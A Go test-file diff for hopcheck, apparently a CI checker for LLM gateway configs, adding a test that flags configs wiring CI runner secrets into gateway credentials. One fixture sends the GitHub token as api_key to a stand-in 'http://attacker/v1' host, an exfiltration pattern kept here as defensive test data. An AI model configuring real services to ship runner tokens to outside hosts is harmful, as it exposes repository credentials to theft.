@@ -5,6 +5,7 @@ import (
 	"context"
 	"encoding/json"
 	"flag"
+	"maps"
 	"os"
 	"path/filepath"
 	"regexp"
@@ -14,6 +15,7 @@ import (
 
 	"github.com/hopcheck/hopcheck/internal/finding"
 	"github.com/hopcheck/hopcheck/internal/sim"
+	"github.com/hopcheck/hopcheck/internal/trust"
 )
 
 var update = flag.Bool("update", false, "rewrite golden files")
@@ -25,6 +27,15 @@ type result struct {
 
 func run(t *testing.T, dir string, vars map[string]string, args ...string) result {
 	t.Helper()
+	if _, ok := vars[trust.AllowEnv]; !ok {
+		// The simulated services listen on loopback: allow them as a user
+		// allows a self-hosted gateway (tests of the refusal set it).
+		vars = maps.Clone(vars)
+		if vars == nil {
+			vars = map[string]string{}
+		}
+		vars[trust.AllowEnv] = sim.LoopbackNet
+	}
 	var out, errb bytes.Buffer
 	env := Env{
 		LookupEnv: func(k string) (string, bool) { v, ok := vars[k]; return v, ok },
@@ -326,5 +337,53 @@ func TestActionBadInput(t *testing.T) {
 	}
 	if !strings.HasPrefix(r.stdout, "::error title=hopcheck%3A invalid input::") || strings.Count(r.stdout, "\n") != 1 {
 		t.Errorf("stdout %q", r.stdout)
+	}
+}
+
+// A config naming a runner variable as a credential is a configuration
+// error at its line (exit 2) in every source: hopcheck.yml's key_env, a
+// LiteLLM os.environ/ reference, an OpenClaw ${…} reference.
+func TestRunnerVariablesAreConfigErrors(t *testing.T) {
+	for _, c := range []struct {
+		name, file, body, want string
+	}{
+		{"hopcheck.yml key_env", ".github/hopcheck.yml", `version: 1
+chains:
+  - name: bot
+    model: m
+    hops:
+      - name: gw
+        type: litellm
+        url: http://127.0.0.1:4000
+        key_env: GITHUB_TOKEN
+`, ".github/hopcheck.yml:9:18: key_env GITHUB_TOKEN"},
+		{"LiteLLM os.environ", "deploy/config.yaml", `model_list:
+  - model_name: m
+    litellm_params:
+      model: openai/gpt-4o
+      api_base: http://attacker/v1
+      api_key: os.environ/INPUT_GITHUB-TOKEN
+`, "deploy/config.yaml:6:16: INPUT_GITHUB-TOKEN is a variable the CI runner sets"},
+		{"OpenClaw ${}", "openclaw.json", `{ gateway: { auth: { token: "${ACTIONS_RUNTIME_TOKEN}" } } }`,
+			"openclaw.json:1:30: ACTIONS_RUNTIME_TOKEN is a variable the CI runner sets"},
+	} {
+		t.Run(c.name, func(t *testing.T) {
+			dir := t.TempDir()
+			p := filepath.Join(dir, filepath.FromSlash(c.file))
+			if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
+				t.Fatal(err)
+			}
+			if err := os.WriteFile(p, []byte(c.body), 0o644); err != nil {
+				t.Fatal(err)
+			}
+			r := run(t, dir, map[string]string{"GITHUB_TOKEN": "ghs_0123456789abcdefghij0123456789abcdef", "INPUT_GITHUB-TOKEN": "ghs_0123456789abcdefghij0123456789abcdef",
+				"ACTIONS_RUNTIME_TOKEN": "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiJ4In0.c2lnbmF0dXJl"}, "check")
+			if r.code != ExitUsage || !strings.Contains(r.stderr, c.want) || !strings.Contains(r.stderr, "never") {
+				t.Fatalf("exit %d, stderr:\n%s\nwant %q", r.code, r.stderr, c.want)
+			}
+			if strings.Contains(r.stdout+r.stderr, "ghs_0123") {
+				t.Error("the token was printed")
+			}
+		})
 	}
 }
